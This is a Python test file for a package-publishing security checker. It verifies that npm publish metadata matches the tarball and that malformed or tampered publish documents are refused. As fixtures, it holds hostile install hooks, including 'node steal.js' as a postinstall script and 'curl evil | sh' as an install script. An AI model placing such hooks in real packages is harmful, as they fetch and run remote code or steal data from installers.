"""Publish documents: the tarball and its metadata in one verdict; hostile document shapes are blocked."""

from __future__ import annotations

import base64
import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from extgate import Options, check
from extgate.gates.manifest.publish import metadata_mismatches
from extgate.publish import read_publish_document
from extgate.publish.service import check_publish
from support.publishdoc import encode, publish_document

OPTIONS = Options(offline=True, network=False, use_cache=False)
CLEAN = {"name": "left-pad", "version": "1.0.0", "description": "pads", "main": "index.js", "license": "MIT"}
FILES = {"index.js": "module.exports = (s, n) => String(s).padStart(n);\n"}


def rule_ids(document: Any) -> set[str]:
    return {f.rule_id for f in check_publish(document, options=OPTIONS).findings}


def test_clean_document_has_the_same_findings_as_the_tarball_alone() -> None:
    doc = publish_document(CLEAN, FILES)
    tarball, claim = read_publish_document(encode(doc))
    assert claim.problems == () and claim.name == "left-pad" and claim.version == "1.0.0"
    published = check_publish(encode(doc), options=OPTIONS)
    alone = check(tarball, options=OPTIONS)
    assert [f.fingerprint for f in published.findings] == [f.fingerprint for f in alone.findings]
    assert published.status == alone.status
    assert published.target.sha256 == alone.target.sha256
    assert not {"manifest/publish-metadata-mismatch", "manifest/publish-document"} & rule_ids(doc)


@pytest.mark.parametrize(
    ("override", "field"),
    [
        ({"scripts": {"postinstall": "node steal.js"}}, "scripts"),
        ({"dependencies": {"evil": "1.0.0"}}, "dependencies"),
        ({"optionalDependencies": {"evil": "*"}}, "optionalDependencies"),
        ({"bin": {"ls": "evil.js"}}, "bin"),
        ({"version": "1.0.1"}, "version"),
    ],
)
def test_metadata_that_differs_from_the_tarball_is_an_error(override: dict[str, Any], field: str) -> None:
    doc = publish_document(CLEAN, FILES, metadata=override)
    verdict = check_publish(doc, options=OPTIONS)
    hits = [f for f in verdict.findings if f.rule_id == "manifest/publish-metadata-mismatch"]
    assert verdict.blocked
    assert [f.properties["field"] for f in hits] == [field]
    assert hits[0].level.value == "error" and hits[0].path == "package.json"


def test_another_name_in_the_metadata_is_refused() -> None:
    doc = publish_document(CLEAN, FILES, metadata={"name": "lodash"})
    ids = rule_ids(doc)
    assert "manifest/publish-metadata-mismatch" in ids and "manifest/publish-document" in ids


def test_npm_normalizations_are_not_mismatches() -> None:
    tarball = {
        "name": "@acme/tool",
        "version": "1.0.0",
        "bin": "./cli.js",
        "bundledDependencies": ["a"],
        "dependencies": {"a": "1.0.0", "fsevents": "2"},
        "optionalDependencies": {"fsevents": "2"},
    }
    published = {
        "name": "@acme/tool",
        "version": "1.0.0",
        "bin": {"tool": "cli.js"},
        "bundleDependencies": ["a"],
        "dependencies": {"a": "1.0.0"},
        "optionalDependencies": {"fsevents": "2"},
        "scripts": {"install": "node-gyp rebuild"},
        "_id": "x",
        "dist": {},
    }
    assert metadata_mismatches(published, tarball, frozenset({"binding.gyp"})) == []
    # the derived install script is accepted only when the tarball really has a binding.gyp
    assert [m[0] for m in metadata_mismatches(published, tarball)] == ["scripts"]
    assert metadata_mismatches({**published, "scripts": {"install": "curl evil | sh"}}, tarball) != []
    in_dir = {"name": "t", "version": "1.0.0", "directories": {"bin": "./bin"}}
    assert metadata_mismatches({**in_dir, "bin": {"t": "bin/t.js"}}, in_dir) == []
    assert [m[0] for m in metadata_mismatches({**in_dir, "bin": {"t": "lib/evil.js"}}, in_dir)] == ["bin"]


def _mutate(doc: dict[str, Any], how: str) -> dict[str, Any]:
    att = doc["_attachments"]
    key = next(iter(att))
    version = next(iter(doc["versions"]))
    if how == "several-versions":
        doc["versions"]["0.0.1"] = {**doc["versions"][version], "version": "0.0.1"}
    elif how == "several-attachments":
        att["other-9.9.9.tgz"] = dict(att[key])
    elif how == "base64":
        att[key]["data"] = att[key]["data"][:-8] + "!!!!"
    elif how == "shasum":
        doc["versions"][version]["dist"]["shasum"] = "0" * 40
    elif how == "integrity":
        doc["versions"][version]["dist"]["integrity"] = "sha512-" + base64.b64encode(b"x" * 64).decode()
    elif how == "dist-tags":
        doc["dist-tags"] = {"latest": "0.0.1"}
    elif how == "attachment-name":
        att["renamed.tgz"] = att.pop(key)
    elif how == "no-attachments":
        doc["_attachments"] = {}
    return doc


@pytest.mark.parametrize(
    "how",
    [
        "several-versions",
        "several-attachments",
        "base64",
        "shasum",
        "integrity",
        "dist-tags",
        "attachment-name",
        "no-attachments",
    ],
)
def test_hostile_document_shapes_are_blocked_with_a_clear_finding(how: str) -> None:
    doc = _mutate(publish_document(CLEAN, FILES), how)
    verdict = check_publish(encode(doc), options=OPTIONS)
    hits = [f for f in verdict.findings if f.rule_id == "manifest/publish-document"]
    assert verdict.blocked and hits, how
    assert all(f.message.endswith("The publish is refused.") for f in hits)
    evidence = {p.evidence for p in read_publish_document(encode(doc))[1].problems}
    expected = {
        "several-versions": "document:several-versions",
        "several-attachments": "document:several-attachments",
        "base64": "document:base64",
        "shasum": "document:shasum",
        "integrity": "document:integrity",
        "dist-tags": "document:dist-tags",
        "attachment-name": "document:attachment-name",
        "no-attachments": "document:attachments",
    }[how]
    assert expected in evidence


@pytest.mark.parametrize(
    "body",
    [b"not json", b"[1, 2]", b'{"name": "a", "name": "b"}', b"[" * 100_000, "ünïcode".encode("utf-16")],
)
def test_non_documents_are_blocked_not_crashes(body: bytes) -> None:
    verdict = check_publish(body, options=OPTIONS)
    assert verdict.blocked
    assert "manifest/publish-document" in {f.rule_id for f in verdict.findings}
    assert "engine/internal-error" not in {f.rule_id for f in verdict.findings}


def test_oversized_document_is_refused_before_parsing() -> None:
    doc = encode(publish_document(CLEAN, FILES))
    _, claim = read_publish_document(doc, max_bytes=len(doc) - 1)
    assert [p.evidence for p in claim.problems] == ["document:size"]


def test_provenance_bundle_beside_the_tarball_is_allowed() -> None:
    doc = publish_document(CLEAN, FILES)
    doc["_attachments"]["left-pad-1.0.0.sigstore"] = {
        "content_type": "application/vnd.dev.sigstore.bundle+json",
        "data": json.dumps({"x": 1}),
        "length": 8,
    }
    assert read_publish_document(encode(doc))[1].problems == ()


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=20),
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=12), children, max_size=4),
    max_leaves=20,
)
_KEYS = st.sampled_from(["name", "versions", "_attachments", "dist-tags", "data", "length", "dist", "version"])


@settings(max_examples=60, deadline=None)
@given(st.dictionaries(_KEYS, _JSON, max_size=5) | st.binary(max_size=200))
def test_any_document_is_read_without_raising(document: Any) -> None:
    body = document if isinstance(document, bytes) else json.dumps(document).encode()
    tarball, claim = read_publish_document(body)
    assert isinstance(tarball, bytes)
    assert claim.problems or (claim.version and claim.attachment)  # nothing passes without one checked tarball
